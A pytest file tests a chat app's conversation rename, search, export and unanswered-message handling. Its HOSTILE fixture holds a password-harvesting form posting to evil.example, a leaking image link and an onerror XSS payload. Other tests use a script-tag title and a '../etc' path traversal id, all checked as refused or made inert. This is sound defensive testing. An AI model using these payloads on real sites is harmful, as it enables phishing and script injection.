# ruff: noqa: F811 (pytest fixtures arrive as parameters named like the imported fixtures)
"""Rename, search, export and the failed message kept across reloads, through `Conversations` over a real SQLite
store: only the caller's own, bad input refused with a sentence, exported Markdown that stays inert."""

from __future__ import annotations

import json

import pytest
from markdown_it import MarkdownIt

from chatapp.conversations import Conversations, NotFound
from chatapp.history.sqlite import SqliteStore
from chatapp.inputs import InputError

# The same store and service as the other Conversations tests (fixtures shared by import).
from tests.chat.test_conversations import conversations, store, talk  # noqa: F401

HOSTILE = (
    'Sign in again: <form action="https://evil.example/steal"><input name="password"></form>\n'
    "![pixel](https://evil.example/p.png?leak=1) <img src=x onerror=alert(1)>\n"
    "```\nan unclosed fence would swallow what follows"
)


def test_rename_search_and_export_act_only_on_the_callers_own(conversations: Conversations, store: SqliteStore):
    ada = conversations.start("user:ada")
    talk(conversations, "user:ada", ada, "the walrus plan")
    before = [m.content for m in store.load_messages(ada.session_id, "user:ada")]

    with pytest.raises(NotFound):
        conversations.rename("user:bob", ada.session_id, "bob's now")
    with pytest.raises(NotFound):
        conversations.export("user:bob", ada.session_id, "json")
    assert conversations.search("user:bob", "walrus") == []

    assert conversations.list("user:ada")[0].title == "the walrus plan"
    assert [m.content for m in store.load_messages(ada.session_id, "user:ada")] == before


def test_rename_applies_the_title_rule_and_refuses_an_empty_title(conversations: Conversations):
    session = conversations.start("user:ada")
    talk(conversations, "user:ada", session, "first")
    renamed = conversations.rename("user:ada", session.session_id, "  Trip\n\tplans  ")
    assert renamed.title == "Trip plans" and conversations.list("user:ada")[0].title == "Trip plans"
    for bad in ("", "   \n ", None):
        with pytest.raises(InputError, match="The title is empty"):
            conversations.rename("user:ada", session.session_id, bad)
    with pytest.raises(InputError, match="title must be text"):
        conversations.rename("user:ada", session.session_id, {"title": "x"})
    with pytest.raises(InputError, match="not a valid conversation id"):
        conversations.rename("user:ada", "../etc", "x")
    assert conversations.list("user:ada")[0].title == "Trip plans"


def test_search_returns_summaries_with_the_matching_excerpt(conversations: Conversations):
    session = conversations.start("user:ada")
    talk(conversations, "user:ada", session, "Tell me about otters")
    (hit,) = conversations.search("user:ada", "otter")
    assert hit.summary.id == session.session_id and hit.excerpt == ""  # the title matched
    (hit,) = conversations.search("user:ada", "hello")  # ScriptedModel answers "Hello!"
    assert hit.excerpt == "Hello!"
    with pytest.raises(InputError, match="search must be text"):
        conversations.search("user:ada", ["otter"])


def test_export_markdown_is_inert_and_json_is_exact(conversations: Conversations):
    session = conversations.start("user:ada")
    talk(conversations, "user:ada", session, HOSTILE)
    talk(conversations, "user:ada", session, "after the fence")
    conversations.rename("user:ada", session.session_id, "<script>alert(1)</script> notes")

    markdown = conversations.export("user:ada", session.session_id, "markdown")
    assert markdown.filename == f"script-alert-1-script-notes-{session.session_id[:8]}.md"
    assert markdown.mime_type == "text/markdown"
    html = MarkdownIt("commonmark").enable("table").render(markdown.text)
    for active in ("<form", "<input", "<img", "<script"):
        assert active not in html, f"{active} in the exported Markdown's HTML"
    # The fence the message left open is closed: the next message is a heading again, not code.
    assert "<h2>You" in html.split("after the fence")[0].rsplit("</pre>", 1)[-1]

    exported = conversations.export("user:ada", session.session_id, "json")
    document = json.loads(exported.text)
    assert exported.filename.endswith(".json") and document["id"] == session.session_id
    assert document["title"] == "<script>alert(1)</script> notes"
    assert [(m["role"], m["content"]) for m in document["messages"]] == [
        ("user", HOSTILE),
        ("assistant", "Hello!"),
        ("user", "after the fence"),
        ("assistant", "Hello!"),
    ]
    assert document["messages"][1]["model"] == "M" and document["unanswered"] is None
    with pytest.raises(InputError, match="Export as markdown or json"):
        conversations.export("user:ada", session.session_id, "pdf")


def test_a_failed_message_is_kept_until_answered_or_taken_back(conversations: Conversations):
    session = conversations.start("user:ada")
    assert conversations.remember_unanswered("user:ada", session, "why?", "The model is down.")
    reopened = conversations.reopen("user:ada", session.session_id)  # a reload
    kept = conversations.unanswered("user:ada", reopened)
    assert (kept.text, kept.error) == ("why?", "The model is down.")
    assert json.loads(conversations.export("user:ada", session.session_id, "json").text)["unanswered"]["error"] == (
        "The model is down."
    )
    with pytest.raises(NotFound):
        conversations.unanswered("user:bob", reopened)

    talk(conversations, "user:ada", reopened, "why?")  # the retry is answered: the record is stale
    assert conversations.unanswered("user:ada", reopened) is None

    conversations.remember_unanswered("user:ada", reopened, "and then?", "Timed out.")
    conversations.forget_unanswered("user:ada", reopened)  # undo takes it back
    assert conversations.unanswered("user:ada", reopened) is None
    assert [c.turns for c in conversations.list("user:ada")] == [1]


def test_an_export_leaves_out_a_failed_message_that_a_retry_answered(conversations: Conversations):
    session = conversations.start("user:ada")
    talk(conversations, "user:ada", session, "first")
    conversations.remember_unanswered("user:ada", session, "why?", "The model is down.")
    assert "*No reply: The model is down.*" in conversations.export("user:ada", session.session_id, "markdown").text

    talk(conversations, "user:ada", session, "why?")  # the retry is answered
    markdown = conversations.export("user:ada", session.session_id, "markdown").text
    assert "No reply" not in markdown and "The model is down" not in markdown
    assert markdown.count("## You") == 2
    assert json.loads(conversations.export("user:ada", session.session_id, "json").text)["unanswered"] is None
